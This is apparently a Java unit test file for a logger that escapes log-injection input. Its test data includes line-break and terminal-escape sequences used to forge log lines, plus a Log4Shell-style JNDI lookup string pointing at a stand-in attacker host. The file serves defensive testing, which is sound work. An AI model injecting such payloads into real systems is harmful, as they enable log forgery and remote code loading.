// SPDX-License-Identifier: Apache-2.0
// Copyright The Troupe Authors
package io.troupe.spi;

import static org.assertj.core.api.Assertions.assertThat;

import io.troupe.ActorId;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.lang.System.Logger.Level;
import java.util.ArrayList;
import java.util.List;
import java.util.logging.Formatter;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.logging.SimpleFormatter;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is written by an attacker into what is logged, with the formatter of the platform. */
class OneLineLoggerTest {

    private static final String FORGED = "TROUPE009999: all is well";

    private final List<String> lines = new ArrayList<>();
    private final Logger platform = Logger.getLogger("io.troupe.test.oneline");
    private final OneLineLogger log = new OneLineLogger("io.troupe.test.oneline");
    private final Formatter formatter = new SimpleFormatter();
    private final Handler handler = new Handler() {
        @Override
        public void publish(LogRecord logged) {
            lines.addAll(formatter.format(logged).lines().toList());
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };

    @BeforeEach
    void listen() {
        platform.addHandler(handler);
        platform.setUseParentHandlers(false);
    }

    @AfterEach
    void stop() {
        platform.removeHandler(handler);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\r\n",
                "\n",
                "\r",
                "\u0085",
                "\u2028",
                "\u2029",
                "\u001b[2J\u001b[1;31m",
                "\u009b31m",
                "\u202e",
                "\u2066",
                "\u200b",
                "\u0000",
                "\b\b\b",
                "\ud800",
                "\udb40\udc41"
            })
    void whatEndsALineOrSteersATerminalIsEscapedInMessagesAndExceptions(String evil) {
        String text = "a key " + evil + FORGED;
        log.log(Level.ERROR, "Actor " + text + " failed.");
        log.log(Level.ERROR, "{0} failed", text);
        IllegalStateException thrown = new IllegalStateException(text, new RuntimeException(text));
        thrown.addSuppressed(new RuntimeException(text));
        log.log(Level.ERROR, "Actor failed.", thrown);

        assertThat(String.join("\n", lines)).contains(FORGED).doesNotContain(evil.equals("\n") ? "\n" + FORGED : evil);
        assertThat(lines).noneMatch(line -> line.startsWith(FORGED));
        assertThat(lines).filteredOn(line -> line.contains(FORGED)).hasSize(5);
    }

    @Test
    void textsAreCutAtOneKilobyteAndSaySo() {
        String megabyte = "k".repeat(1 << 20);
        log.log(Level.ERROR, megabyte);
        log.log(Level.ERROR, "\n".repeat(1 << 20));
        log.log(Level.ERROR, "failed", new IllegalStateException(megabyte));

        assertThat(lines).allMatch(line -> line.length() < OneLineLogger.LONGEST + 100);
        assertThat(lines).filteredOn(line -> line.endsWith("…")).hasSize(3);
        log.log(
                Level.ERROR,
                ActorId.of("counter", "\u202e".repeat(40), "\u2028".repeat(40)).toString());
        assertThat(lines.get(lines.size() - 1)).contains("\\u202e");
    }

    @Test
    void harmlessTextsAndExceptionsStayAsTheyAre() {
        String text = "Größe 中文 😀 ${jndi:ldap://evil.example/a} {0} %n %s";
        IllegalStateException thrown = new IllegalStateException(text);
        assertThat(OneLineLogger.escaped(text)).isSameAs(text);
        assertThat(OneLineLogger.escaped("x".repeat(OneLineLogger.LONGEST))).hasSize(OneLineLogger.LONGEST);
        assertThat(OneLineLogger.told(thrown)).isSameAs(thrown);
        log.log(Level.ERROR, text);
        assertThat(lines).anyMatch(line -> line.endsWith(text));
    }

    @Test
    void anExceptionInOtherWordsKeepsItsStackTraceAndCausesAndEvenACircleEnds() {
        RuntimeException inner = new RuntimeException("inner\n");
        IllegalStateException outer = new IllegalStateException("outer", inner);
        inner.addSuppressed(outer);

        Throwable told = OneLineLogger.told(outer);

        assertThat(told.getStackTrace()).isEqualTo(outer.getStackTrace());
        StringWriter trace = new StringWriter();
        told.printStackTrace(new PrintWriter(trace));
        assertThat(trace.toString())
                .startsWith("java.lang.IllegalStateException: outer")
                .contains("Caused by: java.lang.RuntimeException: inner\\u000a");
    }

    @Test
    void anExceptionThatCannotSayWhatItIsIsLoggedAllTheSame() {
        RuntimeException broken = new RuntimeException() {
            private static final long serialVersionUID = 1L;

            @Override
            public String getMessage() {
                throw new IllegalStateException();
            }
        };
        assertThat(OneLineLogger.told(new RuntimeException("a\nb", broken))
                        .getCause()
                        .toString())
                .isEqualTo(broken.getClass().getName());
    }
}
